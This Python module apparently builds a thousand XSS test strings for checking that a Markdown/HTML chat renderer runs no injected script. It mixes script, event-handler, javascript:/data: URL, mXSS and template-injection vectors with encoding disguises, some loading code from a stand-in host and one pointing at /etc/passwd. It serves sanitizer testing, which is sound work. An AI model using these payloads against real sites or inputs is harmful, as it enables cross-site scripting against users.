"""A thousand texts that try to run a script in whatever draws them, each calling `__executed` with its own number.

Ways to run something are put into the places where Markdown, HTML and an element's own templates might let them
through; every pair is written in one of several disguises.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import islice, product

COUNT = 1_000
CALL = "__executed(@@)"
ABROAD = "https://abroad.invalid/@@"

MARKUP = (
    f"<script>{CALL}</script>",
    f"<script src='{ABROAD}.js'></script>",
    f"<script type=module>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<img src='{ABROAD}.png' onerror='{CALL}'>",
    f'<img src=x: onerror="{CALL}"//>',
    f"<img/src/onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><image href=x onerror={CALL}></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=a onload={CALL}></svg>#a'/></svg>",
    f"<svg><a xlink:href='javascript:{CALL}'><text>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{CALL}'>x</math>",
    f"<math><mi><style><!--</style><img src=x onerror={CALL}>--></mi></math>",
    f"<iframe src='javascript:parent.{CALL}'></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe srcdoc='<img src=x onerror=parent.{CALL}>'></iframe>",
    f"<iframe onload={CALL}></iframe>",
    f"<object data='javascript:{CALL}'></object>",
    f"<object data='data:text/html,<script>parent.{CALL}</script>'></object>",
    f"<object data=x onerror={CALL}></object>",
    f"<embed src='javascript:{CALL}'>",
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<video src='{ABROAD}.mp4' poster='{ABROAD}.png' onerror={CALL}></video>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<style onload={CALL}></style>",
    f"<style>@import '{ABROAD}.css'; * {{ background: url({ABROAD}.png) }}</style>",
    f"<style>@keyframes x {{}}</style><b style='animation: x 1s' onanimationstart={CALL}>x</b>",
    f"<link rel=stylesheet href='{ABROAD}.css' onerror={CALL}>",
    f"<link rel=prefetch href='{ABROAD}'>",
    f"<meta http-equiv=refresh content='0; url=javascript:{CALL}'>",
    f"<meta http-equiv=refresh content='0; url={ABROAD}'>",
    f"<base href='{ABROAD}/'>",
    f"<form action='javascript:{CALL}'><button autofocus onfocus={CALL}>x</button></form>",
    f"<form id=x></form><button form=x formaction='javascript:{CALL}'>x</button>",
    f"<a href='javascript:{CALL}'>x</a>",
    f"<a href=x autofocus tabindex=1 onfocus={CALL}>x</a>",
    f"<b style='background: url({ABROAD}.png)' onmouseover={CALL}>x</b>",
    f"<div style='width: expression({CALL})'>x</div>",
    f"<template><img src=x onerror={CALL}></template>",
    f"<template shadowrootmode=open><img src=x onerror={CALL}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'></noscript>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'></xmp>",
    f"<textarea></textarea><img src=x onerror={CALL}>",
    f"<title></title><img src=x onerror={CALL}>",
    f"<select><template><style><!--</style><a id='--><img src=x onerror={CALL}>'></template></select>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    f"<p id='</p><img src=x onerror={CALL}>'>x</p>",
    f"<img src=x name=getElementById onerror={CALL}>",
    f"<x-element onfocus={CALL} tabindex=1 autofocus>x</x-element>",
    f"<agentnook-markdown text='<img src=x onerror={CALL}>'></agentnook-markdown>",
    f"<agentnook-chat onclick={CALL}></agentnook-chat>",
    f"<?xml version='1.0'?><img src=x onerror={CALL}>",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
)
ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"javascript://x.example/%0a{CALL}",
    f"\x01javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java&#x0A;script:{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#0000106&#0000097vascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"java\u200bscript:{CALL}",
    f"\u202ejavascript:{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>parent.{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19leGVjdXRlZCgwKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
    f"blob:null/{CALL}",
    f"view-source:javascript:{CALL}",
    f"feed:javascript:{CALL}",
    "file:///etc/passwd",
    f"chatkit-link:javascript:{CALL}",
    f"https://bank.example@abroad.invalid/@@?{CALL}",
    f'{ABROAD}" onerror="{CALL}',
    f'x" onerror="{CALL}" x="',
    f"{ABROAD}.png",
)
BREAKS = (
    f'"><img src=x onerror={CALL}>',
    f"'><svg onload={CALL}>",
    f"--><script>{CALL}</script>",
    f"</textarea></title></style></script><img src=x onerror={CALL}>",
    f"]]><img src=x onerror={CALL}>",
    f"${{{CALL}}}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"<?lit$@@$?><img src=x onerror={CALL}>",
    f"lit$@@$ <!--?lit$@@$--> <img src=x onerror={CALL}>",
    f"__proto__ constructor prototype <img src=x onerror={CALL}>",
    f"\u2028<img src=x onerror={CALL}>\u2029",
    f"\ufeff\u202e<img src=x onerror={CALL}>",
    f"%3Cimg src=x onerror={CALL}%3E",
    f"\uff1cimg src=x onerror={CALL}\uff1e",
    f"\x00<img src=x onerror={CALL}>",
)
# Where markup and broken-out text may stand.
TEXT_PLACES = (
    "{}",
    "Some words {} and more",
    "# {}",
    "> {}",
    "- [x] {}",
    "1. a\n   1. {}",
    "| {} | b |\n|---|---|\n| {} | {} |",
    "```html\n{}\n```",
    "```{}\nx\n```",
    "~~~ {}\n~~~",
    "`{}`",
    "    {}",
    "**{}**",
    "[{}](https://a.example)",
    "![{}](https://a.example/x.png)",
    "[a]: https://a.example '{}'\n\n[a]",
    "<b>{}</b>",
    "<kbd {}>x</kbd>",
    "<!-- {} -->",
    "<pre>{}</pre>",
    "<div>\n\n{}\n\n</div>",
    "[[[{}]]]",
    "\\{}",
)
ADDRESS_PLACES = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[![x]({})]({})",
    "<{}>",
    "{}",
    "[x][r]\n\n[r]: {}",
    "[r]\n\n[r]: <{}> 'x'",
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    "<form action='{}'><input type=submit autofocus onfocus=__executed(@@)></form>",
    "[https://bank.example]({})",
    "| [x]({}) |\n|---|\n| ![x]({}) |",
    "> - [x]({} 'title\" onload=\"__executed(@@)')",
)
DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.replace("<img", "<IMG").replace("<script", "<ScRiPt").replace("<svg", "<SVG"),
    lambda text: text.replace(" on", "\non").replace("='", "\n='"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<img", "<<img").replace("<script", "<<script"),
    lambda text: text.replace("onerror", "/onerror").replace("onload", "/onload"),
    lambda text: text.replace("(", "&#40;").replace(")", "&#41;"),
)
# A step that shares no divisor with the number of pairs visits each of them once, far from its neighbours.
STEPS = (397, 401, 409, 419, 421, 431, 433)


def hostile_texts() -> list[str]:
    """Return the thousand: distinct, in the same order at every call; `@@` in each has become its place in the list."""
    texts = list(islice(_distinct(), COUNT))
    return [text.replace("@@", str(number)) for number, text in enumerate(texts)]


def _distinct() -> Iterator[str]:
    """Take from every family in turn, so that none crowds out another."""
    seen: set[str] = set()
    families = [iter(_family(number)) for number in range(len(DISGUISES))]
    while families:
        for family in list(families):
            text = next(family, None)
            if text is None:
                families.remove(family)
            elif text not in seen:
                seen.add(text)
                yield text


def _family(number: int) -> Iterator[str]:
    """Yield the pairs of vector and place in one disguise; each family begins with other pairs than the rest."""
    pairs = [*product(TEXT_PLACES, MARKUP + BREAKS), *product(ADDRESS_PLACES, ADDRESSES)]
    for at in range(len(pairs)):
        place, vector = pairs[(number * 211 + at * STEPS[number]) % len(pairs)]
        yield DISGUISES[number](place.replace("{}", vector))
